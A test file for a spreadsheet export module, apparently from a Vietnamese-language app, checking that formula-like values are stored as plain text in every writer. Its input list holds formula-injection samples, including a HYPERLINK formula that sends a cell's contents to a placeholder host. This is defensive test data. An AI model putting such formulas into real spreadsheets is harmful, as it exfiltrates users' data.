import { globSync, readFileSync } from 'node:fs';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { SheetWriter } from './sheet-writer.ts';
import { streamedSheet } from './streamed-sheet.ts';
import { officialXlsx, printedXlsx } from './paper-xlsx.ts';

const values = [
  '=1+1',
  '=HYPERLINK("http://a/?x="&A1;"mở")',
  '+84 912',
  '-5 độ',
  '@SUM(A1)',
  '\t=1',
  '＝1+1',
];

async function cellsOf(content: ArrayBuffer | Uint8Array): Promise<readonly ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook();
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- exceljs declares a Buffer of its own
  await book.xlsx.load(Buffer.from(content as Uint8Array) as unknown as ExcelJS.Buffer);
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

/** Every cell that shows a value: its kind and its format. */
async function toldOf(content: ArrayBuffer | Uint8Array, value: string) {
  return (await cellsOf(content))
    .filter(
      ({ text, isMerged, master, address }) => text === value && (!isMerged || master.address === address),
    )
    .map(({ type, numFmt }) => ({ type, numFmt }));
}

const asText = { type: ExcelJS.ValueType.String, numFmt: '@' };
const column = (title: string) => ({ key: 'a', title, width: 10, align: 'left' as const });

describe.each(values)('the text %j in a sheet', (value) => {
  it('is text in a title, a line, a head, the head of a group, a cell and a sum', async () => {
    const book = new ExcelJS.Workbook();
    const own = new SheetWriter(book, 'A');
    own.title([value]);
    own.line(value, { size: 12 });
    own.table(
      {
        title: value,
        columns: [column(value), column('B'), column('C')],
        groups: [
          { title: '', span: 1 },
          { title: value, span: 2 },
        ],
        rows: [[value, 1, value]],
        total: [value, 1, null],
      },
      true,
    );
    own.end();
    const told = await toldOf(await book.xlsx.writeBuffer(), value);
    expect(told.length).toBe(8);
    expect(new Set(told.map((cell) => JSON.stringify(cell)))).toEqual(new Set([JSON.stringify(asText)]));
  });

  it('is text in the title, the head, a cell and the sum of a long list', async () => {
    const content = await streamedSheet({
      name: 'A',
      titles: [value],
      columns: [column(value), column('B')],
      sample: [[value, 1]],
      rows: [[value, 1]],
      total: [value, 1],
      notes: [value],
    });
    expect(await toldOf(content, value)).toEqual([asText, asText, asText, asText, asText]);
  });

  it('is text in a printed paper and in an official one', async () => {
    const printed = await printedXlsx(
      {
        title: value,
        lines: [value],
        parts: [
          {
            kind: 'table',
            heading: value,
            columns: [column(value)],
            rows: [{ cells: [value], state: null }],
            total: [],
          },
        ],
        notes: [value],
      } as never,
      'A',
    );
    const official = await officialXlsx(
      {
        kind: value,
        title: value,
        parts: [
          { kind: 'text', lead: '', text: value },
          {
            kind: 'table',
            table: { title: '', columns: [column(value)], groups: null, rows: [[value]], total: [] },
          },
        ],
      } as never,
      'A',
    );
    for (const [content, least] of [
      [printed, 5],
      [official, 4],
    ] as const) {
      const told = await toldOf(content, value);
      expect(told.length).toBeGreaterThanOrEqual(least);
      for (const cell of told) expect(cell).toEqual(asText);
    }
  });
});

it('keeps what begins otherwise as it was', async () => {
  const book = new ExcelJS.Workbook();
  const own = new SheetWriter(book, 'A');
  own.table({
    title: '',
    columns: [column('A')],
    groups: null,
    rows: [['1=1'], [' =1'], ['Đoàn']],
    total: [],
  });
  own.end();
  const formats = (await cellsOf(await book.xlsx.writeBuffer())).map(({ numFmt }) => numFmt);
  expect(formats).not.toContain('@');
});

it('is written by no other way than by the writer of sheets: a further one is judged here first', () => {
  const others = globSync('{electron,shared,db,renderer}/**/*.{ts,tsx}')
    .filter((file) => !/\.test\.|test-|hostile-/.test(file))
    .filter((file) => /\.addRow\(|\.getCell\(|aoa_to_sheet|\.values = /.test(readFileSync(file, 'utf8')));
  // The empty form holds our own words and the names of catalogues, which it gives the format of text.
  expect(
    others.map((file) => file.split(/[/\\]/).at(-1) ?? '').toSorted((a, b) => a.localeCompare(b)),
  ).toEqual(['report-xlsx.ts', 'sheet-writer.ts', 'streamed-sheet.ts', 'template-xlsx.ts']);
});
